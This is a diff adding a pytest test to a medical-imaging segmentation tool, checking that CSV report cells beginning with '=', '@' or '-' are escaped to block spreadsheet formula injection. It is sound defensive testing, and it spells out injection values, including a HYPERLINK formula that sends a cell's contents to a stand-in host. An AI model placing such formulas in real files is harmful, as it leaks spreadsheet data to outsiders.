@@ -51,3 +51,33 @@ def test_each_case_has_a_row_with_its_status(capsys, tmp_path, fake_model):
         == ("none found", "lesion", "0", "0", "")
     assert by_case["broken"]["status"] == "failed" and by_case["broken"]["voxels"] == ""
     assert f"{report}  (1 lesion; 1 case failed)" in out
+
+
+def test_cells_that_look_like_formulas_stay_text(tmp_path, monkeypatch, capsys):
+    """A case file named ``=2+3.nii.gz`` and a model's label named ``=HYPERLINK(...)`` were
+    written as they are: formulas to Excel and LibreOffice when the report is opened there (CSV
+    injection; session 41). They are kept text with a leading apostrophe, as spreadsheets do."""
+    import neuroview.ai.segment as segment_module
+    from neuroview.ai.api import LabelInfo, SegmentationResult
+    from neuroview.cli.main import main
+    from neuroview.io.nifti import save_nifti
+
+    label = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
+
+    def segment(volume, *args, **kwargs):
+        labels = np.zeros(volume.shape, np.uint8)
+        if int(np.asarray(volume.array).max()) == 1:
+            labels[4:7, 4:7, 4:7] = 1
+        return SegmentationResult(labels, volume.ijk_to_ras, [LabelInfo(1, label, (255, 64, 0))],
+                                  "fake@1.0", "cpu")
+
+    monkeypatch.setattr(segment_module, "segment", segment)
+    for name, value in (("=2+3", 1), ("@SUM(A1)", 2), ("-1", 1)):
+        save_nifti(np.full((12, 12, 12), value, np.float32), np.eye(4), tmp_path / "in" / f"{name}.nii.gz")
+    report = tmp_path / "lesions.csv"
+    assert main(["segment", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--report", str(report)]) == 0
+    with open(report, newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert sorted((r["case"], r["segment"], r["status"]) for r in rows) == [
+        ("'-1", f"'{label}", "found"), ("'=2+3", f"'{label}", "found"),
+        ("'@SUM(A1)", f"'{label}", "none found")]
